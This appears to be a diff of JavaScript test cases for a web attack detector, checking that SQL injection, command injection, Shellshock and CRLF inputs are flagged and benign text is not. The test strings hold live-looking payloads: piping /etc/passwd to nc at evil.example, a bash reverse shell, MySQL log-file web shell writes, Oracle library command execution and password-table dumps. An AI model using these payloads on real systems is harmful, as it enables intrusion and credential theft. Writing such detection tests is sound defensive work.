@@ -1733,3 +1733,39 @@ t.test('twenty-sixth round (documents on this machine): a system file named insi
   t.ok(json({ text: `${table}    64011 | x; cat /etc/passwd | nc evil.example 4444\n` }).includes('rce'), 'a row holding a separator is no row')
   t.ok(json({ text: 'Reserved uids:\n    uid   | name\n    64001 | mysql -e "drop database x"\n' }).includes('rce'), 'without the delimiter row, a pipe into mysql')
 })
+
+t.test("twenty-sixth round (the fourteenth part, spent): a database server's own means, PostgreSQL's COPY of listed columns, Shellshock, an empty expansion inside a word", async (t) => {
+  for (const p of [
+    "SET global general_log_file='C:/phpStudy/WWW/cmd.php';",
+    'set GLOBAL slow_query_log_file=\'/var/www/html/shell.php\';',
+    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE a",
+    "select x from OpenRowset(BULK 'C:\\Windows\\win.ini',SINGLE_CLOB) R(x)",
+    "SELECT HTTPURITYPE('http://oob.example.net/').GETCLOB() FROM DUAL;",
+    "SELECT is_srvrolemember('sysadmin')",
+    "SELECT IS_MEMBER('db_owner')",
+    'CREATE JAVA SOURCE NAMED "xxxx" AS <Java Code>',
+    "create or replace library lib_evil as '/home/oracle/evil.so';",
+    'create or replace function cmd(str varchar2) return varchar2 as language c library lib_evil name "cmd";',
+    "DBMS_XMLGEN.getXML('select user from dual')",
+    'select username,password,account_status from dba_users',
+    'SELECT privilege FROM user_sys_privs',
+    '1=(select name from master.dbo.sysdatabases where dbid=5)',
+    "'||;COPY users(names) FROM '\\\\xpto.example.com\\';||'",
+  ]) t.ok(q(p).includes('sqli'), p)
+  for (const p of ['the general log of the server', 'load data from the file', 'Copy the text from the page', 'all users from the team', 'select a role from the list']) t.same(q(p), [], p)
+  t.ok(header('referer', '() { _; } >_[$($())] { touch /tmp/x; }').includes('rce'), 'Shellshock opening on another no-op')
+  t.ok(q('cat fl${x}ag').includes('rce'), 'an unset variable inside a word')
+  t.ok(q('cat tes$(z)t/flag').includes('rce'), 'an empty substitution inside a word')
+  t.same(json({ snippet: 'const s = `cat${a}b ${c}`' }), [], "a template literal's expansion inside a word leads no program")
+  t.same(q('total: ${count}items'), [])
+})
+
+t.test('twenty-sixth round (the fourteenth part, spent): a Markdown page’s front matter in a form, a C loop’s header', async (t) => {
+  const page = '---\nc: Copyright (C) Daniel Stenberg, et al.\nSPDX-License-Identifier: curl\nTitle: CURLOPT_URL\nSection: 3\nSource: libcurl\nSee-also:\n  - CURLOPT_CURLU (3)\n---'
+  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`body=${encodeURIComponent(page)}`) }), [], "a page's front matter is no header injected")
+  t.ok(q('x\r\nSet-Cookie: a=b').includes('crlf'), 'a break then a header still is')
+  const c = '#include "server.h"\n\nstatic int n;\n\nint count(void) {\n    int type;\n    for (type = 0; type < CONN_TYPE_MAX; type++) {\n        n += 1;\n    }\n    return n;\n}\n'
+  t.same(json({ snippet: c }), [], "a C loop's clauses are no commands (`type < MAX` is no redirection)")
+  t.ok(json({ snippet: `${c}; cat /etc/passwd | nc evil.example 4444\n` }).includes('rce'), 'a command line in the same program still counts')
+  t.ok(json({ snippet: `${c}bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n` }).includes('rce'), 'and a reverse shell')
+})
